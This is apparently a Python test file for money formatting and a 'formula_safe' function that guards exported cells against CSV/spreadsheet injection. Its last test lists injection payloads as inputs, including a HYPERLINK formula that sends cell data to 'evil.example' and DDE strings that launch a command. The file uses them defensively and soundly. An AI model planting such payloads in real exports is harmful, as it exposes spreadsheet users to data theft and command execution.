"""model.display: the one function that writes money (CLI, pages, report), and formula-safe
text cells."""

from __future__ import annotations

from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from model.display import formula_safe, money


@pytest.mark.parametrize(
    ("value", "kwargs", "expected"),
    [(0, {}, "$0.00"), (1234.5, {}, "$1,234.50"), (-3, {}, "-$3.00"),
     (Decimal("0.005"), {}, "$0.01"), (None, {}, "—"), (float("nan"), {}, "—"),
     (float("inf"), {}, "—"), (-0.001, {}, "$0.00"),  # no "-$0.00"
     (0.0123, {"small": True}, "$0.0123"), (4.387, {"small": True}, "$4.39"),
     (0, {"small": True}, "$0.00"), (0.0000376, {"small": True}, "$0.000038"),
     (-0.00016, {"small": True}, "-$0.00016"), (0.5, {"small": True}, "$0.5000"),
     (1, {"small": True}, "$1.00"), (1.5, {"small": True}, "$1.50"),  # a unit and up: cents
     (1.6e-8, {"small": True}, "$0.00000002"),  # 8 decimals at most
     (25000, {"digits": 0}, "$25,000"),
     (12.5, {"currency": "EUR"}, "€12.50"), (1234.5, {"currency": "JPY"}, "¥1,234"),
     (7, {"currency": "CHF"}, "CHF 7.00")],
)  # fmt: skip
def test_money(value, kwargs, expected: str) -> None:
    assert money(value, **kwargs) == expected


@given(st.floats(allow_nan=True, allow_infinity=True))
def test_money_never_prints_a_non_number(value: float) -> None:
    text = money(value, small=True)
    assert "nan" not in text.lower() and "inf" not in text.lower()


@given(st.floats(min_value=1e-8, max_value=0.999, allow_subnormal=False))
def test_a_small_amount_never_reads_as_zero(value: float) -> None:
    # "$0.00" for a log that cost a fraction of a cent reads as "free" (DESIGN: never $0).
    assert money(value, small=True).strip("$0.") != ""


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tgpt-4o", "'\tgpt-4o"),
        ("\rgpt-4o", "'\rgpt-4o"),
        ("gpt-4o", "gpt-4o"),
        ("claude-sonnet-4-5 = best", "claude-sonnet-4-5 = best"),  # only a leading sign counts
        ("", ""),
    ],
)
def test_formula_starts_get_a_leading_quote(text: str, shown: str) -> None:
    # OWASP CSV injection: a leading ' makes a spreadsheet show the cell as text.
    assert formula_safe(text) == shown
